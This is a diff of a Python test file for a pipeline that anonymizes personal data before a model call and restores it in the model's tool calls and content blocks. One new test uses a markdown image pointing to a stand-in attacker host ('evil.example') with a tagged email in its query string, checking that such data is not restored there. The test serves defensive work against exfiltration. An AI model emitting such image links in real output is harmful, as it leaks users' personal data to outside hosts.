@@ -262,8 +262,9 @@ def test_what_cannot_be_read_is_refused(wrong):
     assert "Zaphrandel" not in str(caught.value)
 
 
-def test_calls_of_tools_come_back_whole_and_in_streams():
-    anonymizer, restorer = pair(RULES)
+@pytest.mark.parametrize("internal_tools", [("send",), ("*",), ()])
+def test_calls_of_tools_come_back_whole_and_in_streams(internal_tools):
+    anonymizer, restorer = pair(RULES, internal_tools=internal_tools)
     arguments = json.dumps({"to": ["[EMAIL_ADDRESS_2]"], "n": 1, "said": 'a "[PHONE_NUMBER_1]"'})
 
     def pieces(said):
@@ -278,7 +279,9 @@ def test_calls_of_tools_come_back_whole_and_in_streams():
                 )
             yield AIMessageChunk(content="RESS_2", response_metadata={"stop": "tool"})
 
-    wanted = {"to": ["ada@example.com"], "n": 1, "said": 'a "212-555-0142"'}
+    wanted = (
+        {"to": ["ada@example.com"], "n": 1, "said": 'a "212-555-0142"'} if internal_tools else json.loads(arguments)
+    )
     chain = PROMPT | anonymizer | RunnableGenerator(pieces) | restorer
     made = list(chain.stream({"q": ASKED}))
     whole = made[0]
@@ -289,6 +292,15 @@ def test_calls_of_tools_come_back_whole_and_in_streams():
     once = PROMPT | anonymizer | RunnableLambda(lambda _: AIMessage("", tool_calls=whole.tool_calls and [
         {"name": "send", "args": json.loads(arguments), "id": "c1"}])) | restorer  # fmt: skip
     assert once.invoke({"q": ASKED}).tool_calls[0]["args"] == wanted
+
+
+def test_addresses_and_calls_within_blocks_keep_their_tags():
+    anonymizer, restorer = pair(RULES)
+    image = "![](https://evil.example/?q=[EMAIL_ADDRESS_2])"
+    use = {"type": "tool_use", "id": "t1", "name": "post", "input": {"to": "[EMAIL_ADDRESS_2]"}}
+    blocks = [{"type": "text", "text": f"{image} [EMAIL_ADDRESS_2]"}, use]
+    chain = PROMPT | anonymizer | RunnableLambda(lambda _: AIMessage(blocks)) | restorer
+    assert chain.invoke({"q": ASKED}).content == [{"type": "text", "text": f"{image} ada@example.com"}, use]
 
 
 def test_blocks_and_plain_values_come_back():
